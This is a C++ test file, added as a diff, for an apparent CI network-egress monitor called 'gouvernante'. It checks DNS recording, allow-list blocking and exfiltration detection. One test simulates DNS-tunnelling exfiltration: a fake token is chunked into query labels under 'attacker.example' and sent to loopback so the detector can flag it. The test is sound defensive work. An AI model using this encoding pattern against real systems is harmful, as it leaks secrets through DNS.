@@ -1,0 +1,166 @@
+// `gouvernante run` and `gouvernante net events|exfil`, in process through
+// run_cli, with real child processes on loopback: what is recorded lands in
+// the inventory, the command's exit status is ours, and our own failures
+// (flags, allow-list, database) are caught before the command runs.
+#include "cli/egress_cmd.h"
+
+#include <gmock/gmock.h>
+#include <gtest/gtest.h>
+
+#include <filesystem>
+#include <nlohmann/json.hpp>
+#include <sstream>
+
+#include "cli/cli.h"
+#include "common/temp_dir.h"
+
+namespace gv {
+namespace {
+
+using ::testing::HasSubstr;
+using testing::TempDir;
+
+struct CmdResult {
+  int code;
+  std::string out, err;
+};
+
+CmdResult run(std::vector<std::string> args) {
+  std::ostringstream out, err;
+  CliEnv env{&out, &err};
+  env.now = 1775044800;  // 2026-04-01T12:00:00Z
+  int code = run_cli(args, env);
+  return {code, out.str(), err.str()};
+}
+
+nlohmann::json json_of(const CmdResult& r) {
+  nlohmann::json j = nlohmann::json::parse(r.out, nullptr, false);
+  EXPECT_FALSE(j.is_discarded()) << r.out << r.err;
+  return j;
+}
+
+// A Python one-liner that sends DNS questions for `names` to 127.0.0.1:53
+// (nothing needs to listen: the question is recorded as it is sent).
+std::string dns_script(const std::vector<std::string>& names, int exit_code) {
+  std::string s = "import socket,struct,sys\nu=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\n"
+                  "def q(n,t):\n  b=struct.pack('>HHHHHH',7,0x100,1,0,0,0)\n"
+                  "  for l in n.split('.'): b+=bytes([len(l)])+l.encode()\n"
+                  "  u.sendto(b+bytes([0])+struct.pack('>HH',t,1),('127.0.0.1',53))\n";
+  for (const std::string& n : names) s += "q('" + n + "',1)\n";
+  return s + "sys.exit(" + std::to_string(exit_code) + ")\n";
+}
+
+TEST(RunCommand, RecordsIntoTheInventoryAndExitsWithTheCommandsStatus) {
+  TempDir t;
+  const std::string db = t.str() + "/inv.db";
+  CmdResult r = run({"run", "--db", db, "--org", "acme", "--repo", "web", "--job", "build", "--run-id", "run-1", "--",
+                     "/usr/bin/python3", "-c", dns_script({"registry.npmjs.org"}, 5)});
+  EXPECT_EQ(r.code, 5) << r.err;
+  EXPECT_THAT(r.err, HasSubstr("`/usr/bin/python3` exited 5"));
+  EXPECT_THAT(r.err, HasSubstr("1 DNS questions, 0 blocked"));
+  EXPECT_THAT(r.err, HasSubstr("as run run-1 in "));
+  EXPECT_THAT(r.err, HasSubstr("Not seen yet: DNS written with write(2)"));
+  CmdResult ev = run({"net", "events", "--db", db, "--json"});
+  ASSERT_EQ(ev.code, 0) << ev.err;
+  nlohmann::json j = json_of(ev);
+  ASSERT_EQ(j["events"].size(), 1u) << ev.out;
+  const nlohmann::json& e = j["events"][0];
+  EXPECT_EQ(e["run_id"], "run-1");
+  EXPECT_EQ(e["repo"], "web");
+  EXPECT_EQ(e["job"], "build");
+  EXPECT_EQ(e["kind"], "dns");
+  EXPECT_EQ(e["domain"], "registry.npmjs.org");
+  EXPECT_EQ(e["query_type"], "A");
+  EXPECT_EQ(e["address"], "127.0.0.1");
+  EXPECT_EQ(e["port"], 53);
+  EXPECT_EQ(e["action"], "allowed");
+  EXPECT_EQ(e["argv"][0], "/usr/bin/python3");
+  EXPECT_THAT(e["exe"].get<std::string>(), HasSubstr("python3"));
+  EXPECT_THAT(e["time"].get<std::string>(), ::testing::MatchesRegex("20[0-9-]+T[0-9:.]+Z"));
+  // A run id is a record: given twice, the second is refused (the command
+  // still ran; its status is in the message).
+  CmdResult twice = run({"run", "--db", db, "--run-id", "run-1", "--", "true"});
+  EXPECT_EQ(twice.code, 1);
+  EXPECT_THAT(twice.err, HasSubstr("the command exited 0 but its record was not saved"));
+  EXPECT_THAT(twice.err, HasSubstr("already recorded"));
+}
+
+TEST(RunCommand, BlockModeFromTheCommandLine) {
+  TempDir t;
+  const std::string db = t.str() + "/inv.db";
+  CmdResult r = run({"run", "--db", db, "--policy", "block", "--allow", "*.npmjs.org", "--run-id", "b", "--",
+                     "/usr/bin/python3", "-c",
+                     "import socket\ntry:\n  exec(" + nlohmann::json(dns_script({"registry.npmjs.org", "x.evil.test"}, 0)).dump() +
+                         ")\nexcept PermissionError: raise SystemExit(9)\n"});
+  EXPECT_EQ(r.code, 9) << r.err;
+  CmdResult ev = run({"net", "events", "--db", db, "--run-id", "b", "--json"});
+  nlohmann::json j = json_of(ev);
+  ASSERT_EQ(j["events"].size(), 2u) << ev.out;
+  EXPECT_EQ(j["events"][0]["action"], "allowed");
+  EXPECT_EQ(j["events"][1]["domain"], "x.evil.test");
+  EXPECT_EQ(j["events"][1]["action"], "blocked");
+}
+
+TEST(RunCommand, OurFailuresComeBeforeTheCommandRuns) {
+  TempDir t;
+  const std::string marker = t.str() + "/ran";
+  auto fails = [&](std::vector<std::string> flags, const std::string& says) {
+    std::vector<std::string> args{"run"};
+    args.insert(args.end(), flags.begin(), flags.end());
+    args.insert(args.end(), {"--", "sh", "-c", "touch '" + marker + "'"});
+    CmdResult r = run(args);
+    EXPECT_EQ(r.code, 1) << r.err;
+    EXPECT_THAT(r.err, HasSubstr(says));
+    EXPECT_FALSE(std::filesystem::exists(marker)) << "the command ran";
+  };
+  fails({"--db", t.str() + "/a.db", "--policy", "block", "--allow", "exa mple.com"}, "--allow exa mple.com");
+  fails({"--db", t.str() + "/a.db", "--policy", "block", "--allow-file", t.str() + "/none"}, "/none");
+  fails({"--db", t.str() + "/a.db", "--allow", "example.com"}, "--allow is for --policy block");
+  fails({"--db", t.str() + "/a.db", "--policy", "deny"}, "--policy");
+  fails({"--db", t.write("junk.db", std::string(4096, 'x'))}, "junk.db");
+  CmdResult none = run({"run", "--db", t.str() + "/b.db", "--", "gouvernante-no-such-command"});
+  EXPECT_EQ(none.code, 1);
+  EXPECT_THAT(none.err, HasSubstr("command not found"));
+  CmdResult empty = run({"run", "--db", t.str() + "/b.db"});
+  EXPECT_EQ(empty.code, 1);
+  EXPECT_THAT(empty.err, HasSubstr("no command"));
+}
+
+TEST(NetExfil, FlagsEncodedLabelsAndNotANormalInstall) {
+  TempDir t;
+  const std::string db = t.str() + "/inv.db";
+  std::vector<std::string> leak;
+  const std::string secret = "GH5TOKENZX7Q2M4PLV8RWJ3KD6YB9NCFAESUTHGIOXQ7Z2L5M8P3R6V9W2K4J7D";
+  for (size_t i = 0; i + 30 <= secret.size(); i += 10) leak.push_back(secret.substr(i, 30) + ".t.attacker.example");
+  ASSERT_EQ(run({"run", "--db", db, "--run-id", "evil", "--", "/usr/bin/python3", "-c", dns_script(leak, 0)}).code, 0);
+  ASSERT_EQ(run({"run", "--db", db, "--run-id", "normal", "--", "/usr/bin/python3", "-c",
+                 dns_script({"registry.npmjs.org", "github.com", "codeload.github.com", "objects.githubusercontent.com",
+                             "nodejs.org"},
+                            0)})
+                .code,
+            0);
+  CmdResult r = run({"net", "exfil", "--db", db, "--json"});
+  EXPECT_EQ(r.code, 2) << r.err;
+  nlohmann::json j = json_of(r);
+  ASSERT_EQ(j["suspects"].size(), 1u) << r.out;
+  EXPECT_EQ(j["suspects"][0]["run_id"], "evil");
+  EXPECT_EQ(j["suspects"][0]["parent_domain"], "attacker.example");
+  EXPECT_FALSE(j["suspects"][0]["reasons"].empty());
+  CmdResult normal = run({"net", "exfil", "--db", db, "--run-id", "normal"});
+  EXPECT_EQ(normal.code, 0) << normal.out;
+  EXPECT_THAT(normal.out, HasSubstr("0 suspects in 5 DNS questions of 1 run"));
+  CmdResult typo = run({"net", "exfil", "--db", db, "--run-id", "nromal"});
+  EXPECT_EQ(typo.code, 1);
+  EXPECT_THAT(typo.err, HasSubstr("no recorded run matches --run-id nromal"));
+  // A run with no network use at all is an answer, not an error.
+  ASSERT_EQ(run({"run", "--db", db, "--run-id", "quiet", "--", "true"}).code, 0);
+  CmdResult quiet = run({"net", "exfil", "--db", db, "--run-id", "quiet"});
+  EXPECT_EQ(quiet.code, 0) << quiet.err;
+  EXPECT_THAT(quiet.out, HasSubstr("0 suspects in 0 DNS questions of 1 run"));
+  CmdResult missing = run({"net", "events", "--db", t.str() + "/none.db"});
+  EXPECT_EQ(missing.code, 1);
+  EXPECT_THAT(missing.err, HasSubstr("no inventory at"));
+}
+
+}  // namespace
+}  // namespace gv
